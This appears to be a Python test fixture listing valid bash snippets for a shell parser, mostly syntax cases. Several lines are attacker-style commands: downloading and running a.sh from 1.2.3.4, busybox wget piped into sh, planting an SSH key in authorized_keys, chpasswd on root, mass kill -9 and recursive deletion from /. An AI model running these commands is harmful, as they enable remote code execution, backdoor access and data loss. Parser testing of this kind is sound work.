"""Valid sources: bash and the parser accept them."""

GOOD = r"""
uname -a
echo a; echo b
cd /tmp || cd /var/run || cd /mnt
wget http://1.2.3.4/a.sh; chmod 777 a.sh; ./a.sh; rm -rf a.sh
cat /proc/cpuinfo | grep name | wc -l
if true; then echo a; else echo b; fi
if a; then b; elif c; then d; else e; fi
while read x y; do echo $x; done < /etc/passwd
until false; do break; done
for i in 1 2 3; do echo $i; done
for i; do echo $i; done
for i do echo $i; done
for i in; do echo $i; done
for i in a b\ndo echo $i\ndone
for i in 1 2; { echo $i; }
for ((i=0; i<3; i++)); do echo $i; done
for ((;;)) { echo; }
for ((i=0;i<3;i++)) do :; done
select x in a b; do echo $x; done
case a in a) echo;; esac
case a in (a|b) echo;; *) x;; esac
case a in a) b;& c) d;;& e) f; esac
case a in esac
case "$x" in\n  a)\n    echo a\n    ;;\n  *)\n    echo b\nesac
case a in if) b;; esac
f() { echo; }
f () ( echo )
f() { a; } > x 2>&1
f()\n{\n a\n}
function f { a; }
function f() { a; }
function f (a)
function f\n(a)
function f if a; then b; fi
f-x() { a; }
{ a; b; }
{ a; } > x
(a; b) < c
((1+2))
(( a > b ))
((a) || (b))
((echo a); (echo b))
( (a) )
[[ a ]]
[[ -f a && ! -d b ]]
[[ a == b* ]]
[[ a != @(b|c) ]]
[[ a =~ ^(b|c)+$ ]]
[[ a =~ (b c) ]]
[[ a =~ a|b ]]
[[ ( a || b ) && c ]]
[[ a < b ]]
[[ a > b ]]
[[ a -eq 1 || b -lt 2 ]]
[[ a &&\nb ]]
[[\n a ]]
[[ $a == "b c" ]]
[[ ! a && b ]]
a=1
a=1 b=2 c
a=
a+=b
a=(1 2 3)
a=(1\n2 # x\n3)
a=([0]=x [2]="y z")
a[1]=x
a[1 + 2]=x
a[$i]+=y
a+=(b)
a=() b=()
export a=(b c) d=e
local x=(1)
declare -a y=(1 2)
echo $((1+2)) $(( (1+2)*3 ))
echo $((echo a); (echo b))
echo $( (echo a) )
echo $[1+2]
echo $(echo $(echo $(echo a)))
echo "$(echo "$(echo "a")")"
echo `echo \`echo a\``
echo "`echo "a"`"
echo ${x} ${x:-a} ${x-b} ${x:=c} ${x=d} ${x:?e} ${x?f} ${x:+g} ${x+h}
echo ${x#a} ${x##a} ${x%a} ${x%%a} ${x/a/b} ${x//a/b} ${x/#a/b} ${x/%a/b}
echo ${#x} ${#} ${#a[@]} ${#@} ${#?} ${##} ${#-}
echo ${!x} ${!x*} ${!x@} ${!a[@]} ${!a[*]} ${!}
echo ${x^} ${x^^} ${x,} ${x,,} ${x@Q}
echo ${x:1} ${x:1:2} ${x: -1} ${x:(-1)} ${@:1:2} ${a[@]:1}
echo "${x:-"a b"}" "${x:-'a'}" ${x:-'}'} "${x:-\}}"
echo ${x!} ${} ${x:} ${1a}
echo ${a[0]} ${a[$i]} ${a["x"]} ${a[a[0]]}
echo 'a' "b" $'c\n' $"d" e\ f
echo a\\nb
echo a # comment
# comment
echo a#b
echo "a\n b"
echo a >b 2>&1 <c >>d 2>>e &>f &>>g >|h <>i 3<&0 4>&- 5<&6-
>a echo b
2>&1 >a b <c
{fd}>x
echo {fd}<x
cat <<EOF\nabc $x\nEOF
cat <<'EOF'\nabc $(\nEOF
cat <<-EOF\n\tabc\n\tEOF
echo "$(cat <<EOF\nabc $(\nEOF\n)"
cat <<A <<B\na\nA\nb\nB
cat <<A; echo x\na\nA
cat <<A | sort\na\nA
echo $(cat <<A\na\nA\n)
cat <<EOF
cat <<<abc
cat <<< "a b"
diff <(a) <(b)
tee >(a) >(b)
echo a<(b)
a & b & c
a && b || c
a | b |& c
a |\nb
a &&\nb ||\nc
! a
! a | b
time a
time -p a | b
time
!
! !
time ! a
coproc a
coproc X { a; }
coproc a b c
echo if then else
echo }
echo { a
echo {a,b} {1..3}
echo a{b,c}d ~ ~root a=~
echo * ? [a-z] [!a]*
echo [ ] [[ ]]
[ -f x ] && echo y
test -x /bin/busybox && echo bb
\n\n\n
a;
a &
 a
a\\\nb
echo \
echo "a\\\nb"
echo "\$x \`a\` \\"
echo $ $% a$ "$"
echo $1 $10 $@ $* $# $? $- $$ $! $0 $_ ${10}
echo "$@" "${a[@]}"
x=$(uname -m); echo "arch=$x"
i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done
echo -e '\x67\x61' | sh
(sleep 1; echo late) >/dev/null 2>&1 &
nohup ./a >/dev/null 2>&1 &
awk 'BEGIN{printf "%05.2f\n", 3.14}'
ps aux | grep -v grep | awk '{print $2}' | xargs kill -9
find / -name "*.sh" -exec rm {} \;
find / -type f \( -name a -o -name b \) -print
echo "root:x"|chpasswd|bash
while true;do echo;done
if(true)then echo a;fi
if ! a; then b; fi
while :; do case $x in a) break;; esac; done
if a; then b; fi | c
if a; then b; fi && c
{ a; } && { b; }
{ a;} | b
f() { local x=1; return $x; }; f
trap 'rm -f x' EXIT INT
set -- a b c; shift
eval "a=\$b"
a=b; c=${a}d; echo ${c%d}
for i in $(seq 1 3); do echo $i; done
for f in *.c; do mv "$f" "${f%.c}.o"; done
echo $(case x in x) echo a;; esac)
echo $(case x in (x) echo a;; esac)
echo "a'b" 'a"b' "a\"b"
echo a"b"c'd'e
echo ""
'' a
"a" b
export PATH=$PATH:/x
if [[ $x =~ ^[0-9]+$ ]]; then echo n; fi
[[ "$x" == *"a b"* ]]
let "x=1+2"
a=$((a+1)) b
echo $((x ? 1 : 2)) $((x<<2)) $((16#ff))
echo $((`echo 1`+$(echo 2)))
echo ${x:-$(a "b")} ${x:-`a`} ${x:-${y:-z}}
echo ${x//\//_} ${x/a\/b/c} ${x///_}
echo ${x#*:} ${x##*/} ${x%%[0-9]*}
busybox wget http://a/b -O - >c;sh c
cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA mdrfckr">>.ssh/authorized_keys
a () { b; } ; a
echo a;# b
echo a ;b
(a)&(b)
a 2>/dev/null|b
a>b;c<d
a>&2
a >&b
a &>b
a 3>&1 1>&2 2>&3
ls;ls&&ls||ls
echo ${x:?"a b"} ${x:?}
: ${x:=y}
printf "%s\n" "${a[@]/#/x}"
echo "${a[*]}" "${#a[*]}"
unset a[1]
declare -A m=([a]=1 [b c]=2)
m[x y]=z
echo ${m[x y]}
case $- in *i*) ;; *) return;; esac
if a\nthen b\nfi
while a\ndo b\ndone
until a;do b;done>c
function a-b () { c; }
coproc { a; }
""".strip("\n").split("\n")
